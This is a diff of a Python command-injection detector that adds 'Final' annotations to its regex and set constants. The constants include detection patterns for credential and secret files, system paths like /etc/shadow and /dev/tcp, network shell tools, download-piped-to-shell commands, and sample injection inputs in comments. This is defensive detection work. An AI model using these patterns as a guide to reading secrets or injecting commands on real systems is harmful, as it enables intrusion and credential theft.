+_SHELLISH_ARG: Final = re.compile(r"^(?:-{1,2}[a-z0-9]|[a-z]:(?:[\\/ ]|$)|hk(?:lm|cu|cr|cc)|hkey_|[a-z]{1,8}=/|/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib|windows)\b|"
+                                  r"/[a-z]$|[a-z]+://|\.{1,2}/.|~/|\$|\d+\.\d+\.\d+\.\d+|/\S*[?*\[]|(?:passwd|shadow|id_rsa|authorized_keys|\.bash_history|\.ssh|sudoers|crontab)$|[a-z0-9_.\-]+\.(?:sh|py|pl|php|rb|elf|bin|txt|log|conf|cfg|ini|exe|bat|ps1)$|"
+                                  r"/[a-z0-9_.\-]+/)", re.I)
 
 
 # Files of secrets an application or a user keeps beside their code or at home: environment files, credentials of git,
 # package registries, clouds and databases, shell histories, ssh keys.
-_SECRET_FILE = re.compile(r"^(?:[\w.~+\-]*/)*\.(?:env(?:\.[\w\-]+)?|htpasswd|netrc|pgpass|npmrc|pypirc|git-credentials|my\.cnf|"
-                          r"(?:bash|zsh|sh|mysql|psql|python|node_repl)_history|aws/(?:credentials|config)|"
-                          r"docker/config\.json|kube/config|ssh/[\w.\-]+|git/config|gnupg/[\w.\-]+)$")
+_SECRET_FILE: Final = re.compile(r"^(?:[\w.~+\-]*/)*\.(?:env(?:\.[\w\-]+)?|htpasswd|netrc|pgpass|npmrc|pypirc|git-credentials|my\.cnf|"
+                                 r"(?:bash|zsh|sh|mysql|psql|python|node_repl)_history|aws/(?:credentials|config)|"
+                                 r"docker/config\.json|kube/config|ssh/[\w.\-]+|git/config|gnupg/[\w.\-]+)$")
 
 
 
@@ -454,12 +455,12 @@ _SECRET_FILE = re.compile(r"^(?:[\w.~+\-]*/)*\.(?:env(?:\.[\w\-]+)?|htpasswd|net
 # `,`, `&` or a spaced `/`. To a shell `,` and `/` join words and `(` after a word is a syntax error, so the items are no
 # command lines; the programs among them must read as names (a product, a language, a capitalised word), never as a
 # probe, a Windows program, a state change, or a program given an operand (`x; sleep 5; y`, `a & calc & b`, `rm logs`).
-_TECH_LIST_RULES = {"rce:chained_command", "rce:command_terminated", "rce:leading_separator", "rce:command_line",
-                    "rce:bare_command"}
-_TECH_CHARS = re.compile(r"^[A-Za-z0-9 .,;/&()+#\-]{1,400}$")
-_TECH_SPLIT = re.compile(r"[;,()&]|\s/\s")
-_TECH_NAME = re.compile(r"^(?:\.?[a-z][\w.+#\-]*|[a-z][\w+#\-]*(?:/[\w+#\-]+)+)$", re.I)
-_TECH_VERSION = re.compile(r"^v?\d{1,4}(?:[./]\d{1,4}){0,2}[a-z]?$", re.I)
+_TECH_LIST_RULES: Final = {"rce:chained_command", "rce:command_terminated", "rce:leading_separator", "rce:command_line",
+                           "rce:bare_command"}
+_TECH_CHARS: Final = re.compile(r"^[A-Za-z0-9 .,;/&()+#\-]{1,400}$")
+_TECH_SPLIT: Final = re.compile(r"[;,()&]|\s/\s")
+_TECH_NAME: Final = re.compile(r"^(?:\.?[a-z][\w.+#\-]*|[a-z][\w+#\-]*(?:/[\w+#\-]+)+)$", re.I)
+_TECH_VERSION: Final = re.compile(r"^v?\d{1,4}(?:[./]\d{1,4}){0,2}[a-z]?$", re.I)
 
 
 def _tech_list(value: str) -> bool:
@@ -496,10 +497,10 @@ def _tech_list(value: str) -> bool:
 # Search-engine syntax in a search box: upper-case `OR`/`AND`/`NOT` between words, `-word` exclusions and `+word`
 # requirements, quoted phrases. An exclusion right after a program's name is that program's option (`powershell
 # -noprofile whoami`), and the word after an exclusion must name no program.
-_SEARCH_PHRASE = re.compile(r"\"[a-z0-9 \-]{1,60}\"", re.I)
-_SEARCH_OP = re.compile(r"^(?:OR|AND|NOT)$")
-_SEARCH_EXCLUDE = re.compile(r"^[-+][a-z][a-z0-9]{2,}$", re.I)
-_SEARCH_WORD = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*[.,!?]?$", re.I)
+_SEARCH_PHRASE: Final = re.compile(r"\"[a-z0-9 \-]{1,60}\"", re.I)
+_SEARCH_OP: Final = re.compile(r"^(?:OR|AND|NOT)$")
+_SEARCH_EXCLUDE: Final = re.compile(r"^[-+][a-z][a-z0-9]{2,}$", re.I)
+_SEARCH_WORD: Final = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*[.,!?]?$", re.I)
 
 
 def _search_syntax(value: str) -> bool:
@@ -523,7 +524,7 @@ def _search_syntax(value: str) -> bool:
 
 # `getent shadow`, `getent passwd www-data`: a lookup in the account databases, whole; in a search box too (a search
 # about it has more words: `getent passwd not showing ldap users`, `getent group tutorial`).
-_ACCOUNT_LOOKUP = re.compile(r"^\s*getent\s+(g?shadow|passwd|group)(?:\s+([a-z_][\w.\-]{0,31}))?\s*$", re.I)
+_ACCOUNT_LOOKUP: Final = re.compile(r"^\s*getent\s+(g?shadow|passwd|group)(?:\s+([a-z_][\w.\-]{0,31}))?\s*$", re.I)
 
 
 def _account_lookup(value: str) -> bool:
@@ -547,12 +548,12 @@ def _secret_read(args: list[str]) -> bool:
 
 # A program piped into by path: one in a directory of the file system's top level, where programs live or files can be
 # dropped (`|/tmp/x`, `|/home/www/up/s.pl`); `python3|/user/anna/lab/tree/x` names a notebook's URL path, not a file.
-_PIPE_PATH = re.compile(r"^/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib\w*|srv|mnt|media|run|"
-                        r"snap|private|applications|users|windows)\b", re.I)
+_PIPE_PATH: Final = re.compile(r"^/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib\w*|srv|mnt|media|run|"
+                               r"snap|private|applications|users|windows)\b", re.I)
 
 
-_WIN_KEY_WORDS = tuple(k for k in _WIN_KEYS if k != "%")
-_PCT_NAME = re.compile(r"%[a-z_]")
+_WIN_KEY_WORDS: Final = tuple(k for k in _WIN_KEYS if k != "%")
+_PCT_NAME: Final = re.compile(r"%[a-z_]")
 
 
 def _win_keys(low: str) -> bool:
@@ -965,36 +966,36 @@ def analyze(value: str, depth: int = 0, role: str = "") -> Finding | None:
 
 
 # Separators after which `.` is the source builtin in command position (a new command of the same line or the next).
-_SOURCE_SEPS = (";", "|", "||", "&&", "&", "\n", ";;", "(", "{")
+_SOURCE_SEPS: Final = (";", "|", "||", "&&", "&", "\n", ";;", "(", "{")
 # The file `.` reads: a path (absolute, home- or directory-relative, a variable) or a script's name.
-_SOURCED = re.compile(r"^(?:/|~[+\-]?\d*/|\.{1,2}/|\$\{?[a-z_]|[\w.\-]+/)|^[\w.\-]+\.(?:sh|bash|zsh|ksh|env|rc|profile|inc)$")
-_DOT_NAME = re.compile(r"^[ \t]*\.(?:dump|shell|system|databases|tables|schema|import|output|once|load|read)[ \t]*$")
-_ALIAS_NAME = re.compile(r"^[ \t]*alias[ \t]+['\"]?[a-z_][\w.\-]{0,30}[ \t]*$")
+_SOURCED: Final = re.compile(r"^(?:/|~[+\-]?\d*/|\.{1,2}/|\$\{?[a-z_]|[\w.\-]+/)|^[\w.\-]+\.(?:sh|bash|zsh|ksh|env|rc|profile|inc)$")
+_DOT_NAME: Final = re.compile(r"^[ \t]*\.(?:dump|shell|system|databases|tables|schema|import|output|once|load|read)[ \t]*$")
+_ALIAS_NAME: Final = re.compile(r"^[ \t]*alias[ \t]+['\"]?[a-z_][\w.\-]{0,30}[ \t]*$")
 # Parameters whose value the application runs as a command, or hands to a search index.
-_COMMAND_PARAM = re.compile(r"^(?:[a-z0-9]+[_.\-])?(?:cmd|command|commands|cmdline|command_?line|exec|execute|shell|"
-                            r"shellcmd|syscmd)(?:[_.\-]?(?:line|str|string|text|input|arg|args))?$")
-_SEARCH_PARAM = re.compile(r"^(?:q|s|k|kw|wd|qs|query|keywords?|terms?|find|searchterms?|searchquery|searchtext|"
-                           r"(?:[a-z]+[_\-])?search(?:[_\-]?(?:q|term|terms|query|text|string|keywords?|box|input))?)$")
+_COMMAND_PARAM: Final = re.compile(r"^(?:[a-z0-9]+[_.\-])?(?:cmd|command|commands|cmdline|command_?line|exec|execute|shell|"
+                                   r"shellcmd|syscmd)(?:[_.\-]?(?:line|str|string|text|input|arg|args))?$")
+_SEARCH_PARAM: Final = re.compile(r"^(?:q|s|k|kw|wd|qs|query|keywords?|terms?|find|searchterms?|searchquery|searchtext|"
+                                  r"(?:[a-z]+[_\-])?search(?:[_\-]?(?:q|term|terms|query|text|string|keywords?|box|input))?)$")
 # Programs a probe runs on its own, to see whether a command parameter reaches a shell (`cmd=id`, `{"cmd": "whoami"}`).
 # Left out: names that are also an application's own actions for such a parameter (elFinder's `cmd=ls`, `dir`,
 # `date`, `last`, `ver`, `vol`), and shells, which a `shell` setting names (a CI runner's `"shell": "bash"`).
-_PARAM_PROBES = frozenset(("id", "whoami", "uname", "hostname", "ifconfig", "ipconfig", "printenv", "pwd", "env", "ps",
-                           "who", "groups", "systeminfo", "tasklist", "netstat", "getmac", "nproc"))
-_PART_RULES = {"rce:command_line", "rce:absolute_command", "rce:command_parameter", "rce:package_manager",
-               "rce:argument_injection", "rce:editor_shell_escape", "rce:nested_command", "rce:dot_source"}
-_QUERY_RULES = {"rce:command_line", "rce:package_manager", "rce:bare_command"}
-_PLAIN_WORDS = re.compile(r"^[ \t]*[a-z0-9]+(?:-[a-z0-9]+)*(?:[ \t]+[a-z0-9]+(?:-[a-z0-9]+)*[.,!?]?)*[ \t]*$", re.I)
+_PARAM_PROBES: Final = frozenset(("id", "whoami", "uname", "hostname", "ifconfig", "ipconfig", "printenv", "pwd", "env", "ps",
+                                  "who", "groups", "systeminfo", "tasklist", "netstat", "getmac", "nproc"))
+_PART_RULES: Final = {"rce:command_line", "rce:absolute_command", "rce:command_parameter", "rce:package_manager",
+                      "rce:argument_injection", "rce:editor_shell_escape", "rce:nested_command", "rce:dot_source"}
+_QUERY_RULES: Final = {"rce:command_line", "rce:package_manager", "rce:bare_command"}
+_PLAIN_WORDS: Final = re.compile(r"^[ \t]*[a-z0-9]+(?:-[a-z0-9]+)*(?:[ \t]+[a-z0-9]+(?:-[a-z0-9]+)*[.,!?]?)*[ \t]*$", re.I)
 
 
 # An absolute path written with shell globs (`/e??/shadow`, `/[e]tc/passwd`, `/pr?c/self/environ`): a glob hides the
 # name from a filter and the shell expands it back. Read as fnmatch reads a glob, it must name one of these system
 # paths and none of the ordinary ones below (`/*/*` names every path, `/api/v?/items` none of these).
-_GLOB_WORD = re.compile(r"(?<![\w/.~-])/[^\s;|&`'\"<>()]{2,255}")
-_GLOB_SYSTEM = shellglob.Names([
+_GLOB_WORD: Final = re.compile(r"(?<![\w/.~-])/[^\s;|&`'\"<>()]{2,255}")
+_GLOB_SYSTEM: Final = shellglob.Names([
     "/etc", "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/sudoers", "/etc/crontab",
     "/etc/hostname", "/etc/os-release", "/proc/self/environ", "/proc/self/cmdline", "/proc/version", "/proc/self",
     "/root/.ssh/id_rsa", "/root/.bash_history", "/bin/sh", "/bin/bash", "/dev/tcp", "/usr/bin/id", "/bin/cat"])
-_GLOB_ORDINARY = shellglob.Names([
+_GLOB_ORDINARY: Final = shellglob.Names([
     "/api/v1", "/api/v2/users", "/var/www/html", "/home/user/docs", "/usr/share/doc", "/static/js/app.js",
     "/images/logo.png", "/en/us", "/a/b", "/tmp/x", "/docs/index.html", "/search/all", "/user/profile", "/src/main",
     "/app/data", "/opt/app", "/bin", "/usr/bin", "/var/log", "/etc/nginx/nginx.conf", "/e", "/x/y/z"])
@@ -1035,8 +1036,8 @@ def command_value(value: str) -> bool:
     return len(value) <= 12 and value.lower() in _PARAM_PROBES
 
 
-_URL_HEAD = re.compile(r"^[ \t]*[a-z][a-z0-9+.\-]{1,15}://[^\s/?#;]+", re.I)
-_PART_KEY = re.compile(r"^[\w.\-\[\]]{1,40}$")
+_URL_HEAD: Final = re.compile(r"^[ \t]*[a-z][a-z0-9+.\-]{1,15}://[^\s/?#;]+", re.I)
+_PART_KEY: Final = re.compile(r"^[\w.\-\[\]]{1,40}$")
 
 
 def _url_parts(value: str) -> list[tuple[str, str]]:
@@ -1067,10 +1068,10 @@ def _url_parts(value: str) -> list[tuple[str, str]]:
 
 
 # Sentence punctuation of any script around a template's placeholders (`${user} が ${item} を購入しました`).
-_TEXT_PUNCT = "\"'.,:!?()«»„“”‘’。、！？：「」・…–—"
+_TEXT_PUNCT: Final = "\"'.,:!?()«»„“”‘’。、！？：「」・…–—"
 # Variables that hold a program: first in a value, their expansion is the command that runs.
-_RUNNER_VARS = {"shell", "bash", "bash_env", "sh", "editor", "visual", "pager", "browser", "cmd", "command", "exec",
-                "prog", "program", "0"}
+_RUNNER_VARS: Final = {"shell", "bash", "bash_env", "sh", "editor", "visual", "pager", "browser", "cmd", "command", "exec",
+                       "prog", "program", "0"}
 
 
 def _placeholder_sentence(low: str) -> bool:
@@ -1091,10 +1092,10 @@ def _placeholder_sentence(low: str) -> bool:
 # amounts, words and names. A cell that names a program is a column name only when capitalised (POSIX names are
 # case-sensitive: `Date`, `Id` run nothing) and no probe a case-blind Windows shell would run (`Dir`, `Whoami`); a
 # lower-case one only when it is an English word that is no probe (`type`, `file`; `id;name;email` stays flagged).
-_CSV_NUMBER = re.compile(r"^[+\-]?[$€£]?\d[\d.,:/\- ]*(?:\s?(?:%|[a-z]{1,3}))?$", re.I)
-_CSV_UNSAFE = re.compile(r"[`<>&\\]|\$[({\w]")
-_CSV_ARG = re.compile(r"^[\-/~.]")
-_CSV_HEADER = re.compile(r"^[^\W\d][\w .()%#/\-]{0,40}$")
+_CSV_NUMBER: Final = re.compile(r"^[+\-]?[$€£]?\d[\d.,:/\- ]*(?:\s?(?:%|[a-z]{1,3}))?$", re.I)
+_CSV_UNSAFE: Final = re.compile(r"[`<>&\\]|\$[({\w]")
+_CSV_ARG: Final = re.compile(r"^[\-/~.]")
+_CSV_HEADER: Final = re.compile(r"^[^\W\d][\w .()%#/\-]{0,40}$")
 
 
 def _csv_cell(cell: str, delim: str) -> bool:
@@ -1137,9 +1138,9 @@ def _delimited_table(value: str) -> bool:
 
 
 # Quoting the shell removes: a backslash before an ordinary character or a newline, and empty quote pairs.
-_DEQUOTE = re.compile(r"\\\r?\n|\\(?=[\w./\-])|''|\"\"")
+_DEQUOTE: Final = re.compile(r"\\\r?\n|\\(?=[\w./\-])|''|\"\"")
 # (a separator start is left to a later separator of its run, as in _PS_SCRIPTBLOCK: the same word follows)
-_QUOTE_SEPS = re.compile(r"(?:[;|&\n`]|\$\()(?!(?:[^\S\n]|\()*+[;|&\n])[;|&\s(]*([a-z/\\$][\w./\\$-]*)", re.I)
+_QUOTE_SEPS: Final = re.compile(r"(?:[;|&\n`]|\$\()(?!(?:[^\S\n]|\()*+[;|&\n])[;|&\s(]*([a-z/\\$][\w./\\$-]*)", re.I)
 
 
 def _quoted_separator(value: str) -> bool:
@@ -1151,14 +1152,14 @@ def _quoted_separator(value: str) -> bool:
 
 
 # Named character references of running text (HTML5 list); numeric ones are evasions the html decoder undoes upstream.
-_TEXT_ENTITY = re.compile(r"&(?:copy|reg|trade|nbsp|amp|lt|gt|quot|apos|hellip|mdash|ndash|euro|pound|yen|cent|sect|"
-                          r"para|deg|middot|bull|laquo|raquo|lsquo|rsquo|ldquo|rdquo|times|divide|plusmn|frac12|"
-                          r"frac14|frac34|shy|iexcl|iquest|ordm|ordf|micro|sup2|sup3|[a-z]uml|[a-z]acute|[a-z]grave|"
-                          r"[a-z]circ|[a-z]tilde|[a-z]cedil|szlig|eth|thorn|aelig|oslash|aring);")
-_HTML_TAG = re.compile(r"</?[a-z][a-z0-9]{0,10}(?:\s[^<>]{0,300})?>")
-_FENCE = re.compile(r"```[a-z0-9_+\-]{0,20}")
-_CARET = re.compile(r"(?<=[\w\"])\^(?=[\w\"])")
-_PROC_SUBST = re.compile(r"[<>]\(\s*([a-z/.~$\\'\"][^\s)]*)")
+_TEXT_ENTITY: Final = re.compile(r"&(?:copy|reg|trade|nbsp|amp|lt|gt|quot|apos|hellip|mdash|ndash|euro|pound|yen|cent|sect|"
+                                 r"para|deg|middot|bull|laquo|raquo|lsquo|rsquo|ldquo|rdquo|times|divide|plusmn|frac12|"
+                                 r"frac14|frac34|shy|iexcl|iquest|ordm|ordf|micro|sup2|sup3|[a-z]uml|[a-z]acute|[a-z]grave|"
+                                 r"[a-z]circ|[a-z]tilde|[a-z]cedil|szlig|eth|thorn|aelig|oslash|aring);")
+_HTML_TAG: Final = re.compile(r"</?[a-z][a-z0-9]{0,10}(?:\s[^<>]{0,300})?>")
+_FENCE: Final = re.compile(r"```[a-z0-9_+\-]{0,20}")
+_CARET: Final = re.compile(r"(?<=[\w\"])\^(?=[\w\"])")
+_PROC_SUBST: Final = re.compile(r"[<>]\(\s*([a-z/.~$\\'\"][^\s)]*)")
 
 
 def _proc_subst(low: str) -> bool:
@@ -1170,11 +1171,11 @@ def _proc_subst(low: str) -> bool:
             return True
     return False
 # A whole value that is one word and the newline ending a command line (a form field keeps the user's newline).
-_NL_TERMINATED = re.compile(r"^\s*[a-z0-9_./\-]+[ \t]*\r?\n\s*$")  # lower case: `Shutdown` is no command to a shell
+_NL_TERMINATED: Final = re.compile(r"^\s*[a-z0-9_./\-]+[ \t]*\r?\n\s*$")  # lower case: `Shutdown` is no command to a shell
 # Commands that change the machine's state; as English they are nouns/verbs nobody submits alone with a newline.
-_SYSTEM_STATE = {"shutdown", "reboot", "halt", "poweroff"}
+_SYSTEM_STATE: Final = {"shutdown", "reboot", "halt", "poweroff"}
 
-_SQLITE_DOT_CMD = re.compile(r"\.\\?'?(?:shell|system|databases|tables|dump|import|output|once|load|sh|schema|read)\b")
+_SQLITE_DOT_CMD: Final = re.compile(r"\.\\?'?(?:shell|system|databases|tables|dump|import|output|once|load|sh|schema|read)\b")
 
 
 def _sqlite_dot(low: str) -> bool:
@@ -1201,11 +1202,11 @@ def _sqlite_dot(low: str) -> bool:
     return False
 
 
-_ALIAS = re.compile(r"(?:^|[;&|\s`])alias\s+(?:[+-]\w*[+-]?\s+)*['\"]?[\w.\-]+['\"]?=")
+_ALIAS: Final = re.compile(r"(?:^|[;&|\s`])alias\s+(?:[+-]\w*[+-]?\s+)*['\"]?[\w.\-]+['\"]?=")
 # `${var:0:1}`, `${var#x}`, `${var/a/b}` carve strings out of variables (an evasion); a plain `${name}` is how
 # templates everywhere write placeholders and does nothing a shell would notice.
-_EXPANSION_BRACE = re.compile(r"\$\{[a-z_][a-z0-9_]*(?::(?![-=?+])|[#%/^,])[^}]*\}|\$\{ifs\}")  # ${IFS}: a blank in disguise
-_EXPANSION_PROC = re.compile(r"[<>]\(\s*[a-z/$.~\\'\"][^)]*\)")  # `<(cmd)`: process substitution
+_EXPANSION_BRACE: Final = re.compile(r"\$\{[a-z_][a-z0-9_]*(?::(?![-=?+])|[#%/^,])[^}]*\}|\$\{ifs\}")  # ${IFS}: a blank in disguise
+_EXPANSION_PROC: Final = re.compile(r"[<>]\(\s*[a-z/$.~\\'\"][^)]*\)")  # `<(cmd)`: process substitution
 
 
 def _expansion(low: str) -> bool:
@@ -1220,22 +1221,22 @@ def _expansion(low: str) -> bool:
 
 
 # One backtick span between words, as Markdown writes inline code inside a sentence.
-_CODE_SPAN = re.compile(r"(?:^|(?<=[\s(]))`[^`\n]{1,200}`(?=$|[\s.,;:!?)])")
-_CODE_SPAN_BODY = re.compile(r"`[^`]*`")
+_CODE_SPAN: Final = re.compile(r"(?:^|(?<=[\s(]))`[^`\n]{1,200}`(?=$|[\s.,;:!?)])")
+_CODE_SPAN_BODY: Final = re.compile(r"`[^`]*`")
 # What an inline code span keeps even inside a sentence: a substitution of its own (`it is `$(id)` here`), a download
 # handed to a shell or an interpreter, a reverse shell.
-_SPAN_DANGER = re.compile(r"\$\(|\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^`|]*\|\s*(?:sudo\s+)?"
-                          r"(?:(?:/usr)?/bin/)?(?:(?:ba|z|k|da|c|tc|a)?sh|python[\d.]*|perl|ruby|php|node|iex|invoke-expression)\b")
-_SPAN_KEEP = {"rce:reverse_shell", "rce:shellshock"}
-_MD_LINK = re.compile(r"!?\[([^\[\]`\n]{0,200})\]\([^()\s`]{1,2048}\)")  # an inline link or image, destination without spaces
+_SPAN_DANGER: Final = re.compile(r"\$\(|\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^`|]*\|\s*(?:sudo\s+)?"
+                                 r"(?:(?:/usr)?/bin/)?(?:(?:ba|z|k|da|c|tc|a)?sh|python[\d.]*|perl|ruby|php|node|iex|invoke-expression)\b")
+_SPAN_KEEP: Final = {"rce:reverse_shell", "rce:shellshock"}
+_MD_LINK: Final = re.compile(r"!?\[([^\[\]`\n]{0,200})\]\([^()\s`]{1,2048}\)")  # an inline link or image, destination without spaces
 # Block markers of a Markdown document at the start of a line: a heading, a numbered or bulleted list item, a quote.
-_MD_BLOCK = re.compile(r"^[ \t]*(?:#{1,6}|\d{1,3}[.)]|[-*+>])[ \t]+", re.M)
+_MD_BLOCK: Final = re.compile(r"^[ \t]*(?:#{1,6}|\d{1,3}[.)]|[-*+>])[ \t]+", re.M)
 # A Markdown (GFM) table's delimiter row, fenced by pipes on both ends: `|---|:--:|`.
-_TABLE_DELIM = re.compile(r"^[ \t]*\|(?:[ \t]*:?-+:?[ \t]*\|)+[ \t]*$", re.M)
-_CELL_PIPE = re.compile(r"(?<!\\)\|")
-_NUMBERISH = re.compile(r"^[$€£]?\d[\d.,:%]*$")
+_TABLE_DELIM: Final = re.compile(r"^[ \t]*\|(?:[ \t]*:?-+:?[ \t]*\|)+[ \t]*$", re.M)
+_CELL_PIPE: Final = re.compile(r"(?<!\\)\|")
+_NUMBERISH: Final = re.compile(r"^[$€£]?\d[\d.,:%]*$")
 # Put before each cell of a table `_md_tables` rewrote: a word no program is named, so no cell is in command position.
-_TABLE_MARK = "\x00 "
+_TABLE_MARK: Final = "\x00 "
 
 
 def _cells(line: str) -> list[str]:
@@ -1294,26 +1295,26 @@ def _markdown_code(low: str, table: bool = False) -> bool:
 
 
 # `^[`1`:^[`type`:` — JSON whose quotes are backticks (Magento widget conditions): keys, not substitutions
-_BACKTICK_KEYS = re.compile(r"[\[{,^]\s*`[\w-]+`\s*:")
-_CODE_PUNCT = re.compile(r"[;\[\]{}'\"$|&<>`=\\]")
-_EDITORS = {"vi", "vim", "ex", "view", "rvim", "rview", "nvim", "vimdiff", "gvim"}
-_EDITOR_ESCAPE = re.compile(r"^(?:[+:]|-c:?)?!([a-z/][\w/.\-]*)")
-_OPTION = re.compile(r"^(?:-{1,2}[a-z][\w\-]*|/[a-z])$")
-_PROSE_WORD = re.compile(r"^[a-z]+[!?.,:]?$")
+_BACKTICK_KEYS: Final = re.compile(r"[\[{,^]\s*`[\w-]+`\s*:")
+_CODE_PUNCT: Final = re.compile(r"[;\[\]{}'\"$|&<>`=\\]")
+_EDITORS: Final = {"vi", "vim", "ex", "view", "rvim", "rview", "nvim", "vimdiff", "gvim"}
+_EDITOR_ESCAPE: Final = re.compile(r"^(?:[+:]|-c:?)?!([a-z/][\w/.\-]*)")
+_OPTION: Final = re.compile(r"^(?:-{1,2}[a-z][\w\-]*|/[a-z])$")
+_PROSE_WORD: Final = re.compile(r"^[a-z]+[!?.,:]?$")
 
 
 # Function words of English: sub-commands (`cscli alerts list`, `ansible-vault decrypt secret`) never are.
-_STOP = set("""is are was were be been am a an the my your our their his her its this that these those or and but
+_STOP: Final = set("""is are was were be been am a an the my your our their his her its this that these those or and but
 nor vs versus to of for in on at by with from as than then so too very really not no yes if it i you we they he she
 me us them can could should would will shall may might must do does did has have had just also only still""".split())
 
 
 # More function words of running text (quantifiers, conjunctions, question words): a sentence has several of them.
-_FUNCTION_WORDS = _STOP | set("""every each even though although because while when whenever after before since until
+_FUNCTION_WORDS: Final = _STOP | set("""every each even though although because while when whenever after before since until
 unless whether nothing anything something everything nobody anybody someone anyone about into onto over under again
 once why how what where which there here all any some both either neither same own""".split())
 # A word or number of running text, maybe quoted or bracketed, maybe with a comma or a full stop after it.
-_SENTENCE_WORD = re.compile(r"^[\"'(]?(?:[a-z]+(?:['’-][a-z]+)*|\d+(?:[.,:]\d+)*%?)[\"')]?[.,:!?]?[\"')]?$", re.I)
+_SENTENCE_WORD: Final = re.compile(r"^[\"'(]?(?:[a-z]+(?:['’-][a-z]+)*|\d+(?:[.,:]\d+)*%?)[\"')]?[.,:!?]?[\"')]?$", re.I)
 
 
 def _sentence(value: str) -> bool:
@@ -1351,7 +1352,7 @@ def _prose_list(rest: list[tuple[str, str]]) -> bool:
 
 # Nouns of search queries and titles about a tool (`perl regex tutorial`, `bash script examples`): what people look
 # up about a program, never a sub-command or operand it takes.
-_TOPIC = set("""tutorial tutorials example examples guide guides course courses book books docs documentation manual
+_TOPIC: Final = set("""tutorial tutorials example examples guide guides course courses book books docs documentation manual
 cheatsheet cheat sheet basics beginner beginners tips tricks interview questions question syntax reference meaning
 certification training jobs job salary developer developers programming language vs versus alternative alternatives
 error errors comprehension regex regular expression expressions script scripting scripts tutorialspoint course
@@ -1359,14 +1360,14 @@ video videos pdf review reviews online free download explained introduction intr
 projects project problems exercises challenge challenges framework frameworks library libraries logo meme""".split())
 # What goes wrong with a tool, as help-desk searches and tickets put it (`mysqldump backup failed access denied`,
 # `rsync connection refused`): states and outcomes, never an operand a program takes.
-_SYMPTOM = set("""failed fails fail failing failure failures denied refused hangs hanging hung stuck slow slower
+_SYMPTOM: Final = set("""failed fails fail failing failure failures denied refused hangs hanging hung stuck slow slower
 crash crashes crashed crashing broken missing timeout timeouts freezes freezing frozen unable unreachable unauthorized
 forbidden expired corrupt corrupted invalid warning warnings issue issues problem problems bug bugs troubleshoot
 troubleshooting fix fixed workaround""".split())
 # Network clients need somewhere to connect: with only plain words after them (`nc state basketball`) they are words.
-_NET_TOOLS = {"nc", "ncat", "netcat", "telnet", "ssh", "ftp", "tftp", "sftp", "nmap", "socat", "ping", "dig", "nslookup"}
+_NET_TOOLS: Final = {"nc", "ncat", "netcat", "telnet", "ssh", "ftp", "tftp", "sftp", "nmap", "socat", "ping", "dig", "nslookup"}
 # Programs that are also the names of languages, products and formats, so shoppers and readers type them in queries.
-_NOUN_TOOLS = set("""python python2 python3 perl ruby php php5 php7 lua node nodejs java javac gcc g++ cc clang docker
+_NOUN_TOOLS: Final = set("""python python2 python3 perl ruby php php5 php7 lua node nodejs java javac gcc g++ cc clang docker
 podman kubectl helm terraform ansible mysql psql sqlite3 mongo git ssh openssl gzip gunzip zip unzip bzip2 xz tar 7z rar
 unrar vim nano emacs tmux npm yarn pip pip3 gem cargo composer curl wget nmap telnet ftp rsync gpg bash zsh powershell
 pwsh deno rustc dotnet mvn gradle kotlin ngrok jq htop hashcat sqlmap tcpdump tshark iptables ufw certbot openvpn lynx
@@ -1374,7 +1375,7 @@ w3m gimp octave puppet chef rake irb dig whois brotli zstd lz4 busybox truncate 
 svn wireshark xterm rustup pacman raku wsl winget""".split())
 # Shell builtins and launchers that run the program named in their arguments (`repeat 3 id`, `command -v sh`,
 # `coproc nc …`, `setsid sh -c …`; unix-shell-builtins.data of CRS 4 lists the builtins).
-_RUNNERS = {"repeat", "command", "builtin", "coproc", "setsid", "exec", "nohup", "stdbuf", "unshare", "chroot"}
+_RUNNERS: Final = {"repeat", "command", "builtin", "coproc", "setsid", "exec", "nohup", "stdbuf", "unshare", "chroot"}
 
 
 def _runs_program(args: list[str]) -> bool:
@@ -1386,22 +1387,22 @@ def _runs_program(args: list[str]) -> bool:
     return False
 
 
-_LIST_RULES = {"rce:chained_command", "rce:command_terminated", "rce:leading_separator"}
+_LIST_RULES: Final = {"rce:chained_command", "rce:command_terminated", "rce:leading_separator"}
 # What a shell prints about itself: the probes of blind injection, never excused as an item of a list.
-_PROBES = {"id", "who", "w", "whoami", "env", "ls", "ll", "ps", "pwd", "dir", "ver", "vol", "uname", "hostname",
-           "ifconfig", "ipconfig", "printenv", "groups", "last", "uptime", "date", "sh", "bash", "cmd", "powershell"}
+_PROBES: Final = {"id", "who", "w", "whoami", "env", "ls", "ll", "ps", "pwd", "dir", "ver", "vol", "uname", "hostname",
+                  "ifconfig", "ipconfig", "printenv", "groups", "last", "uptime", "date", "sh", "bash", "cmd", "powershell"}
 # A name in a list: a word, maybe dotted (`node.js`, `.net`) or slash-joined without dots (`c/c++`, `html/css`, `ci/cd`;
 # `host.net/x.sh` is an address, not a name).
-_LIST_ITEM = re.compile(r"^(?:\.?[a-z][a-z0-9_.+#\-]*|[a-z][a-z0-9+#\-]*(?:/[a-z0-9+#\-]+)+)$")
+_LIST_ITEM: Final = re.compile(r"^(?:\.?[a-z][a-z0-9_.+#\-]*|[a-z][a-z0-9+#\-]*(?:/[a-z0-9+#\-]+)+)$")
 # Programs that run what reaches them on standard input (or the program named after them): bare in a pipeline they are
 # the end of `…|sh`, never a search term.
-_RUNS_STDIN = _SHELLS | {"xargs", "crontab", "nohup", "env", "exec", "eval", "source", "time", "doas", "tclsh", "jjs",
-                         "irb", "jshell", "ghci", "pry", "pdb", "rlwrap", "socat", "nc", "ncat", "netcat", "telnet"}
+_RUNS_STDIN: Final = _SHELLS | {"xargs", "crontab", "nohup", "env", "exec", "eval", "source", "time", "doas", "tclsh", "jjs",
+                                "irb", "jshell", "ghci", "pry", "pdb", "rlwrap", "socat", "nc", "ncat", "netcat", "telnet"}
 
 
 # Shells that are also the names of scripting languages on a CV (`Bash; PowerShell`): bare after `;` they start a shell
 # on an empty standard input; after `|` they run what the pipe hands them.
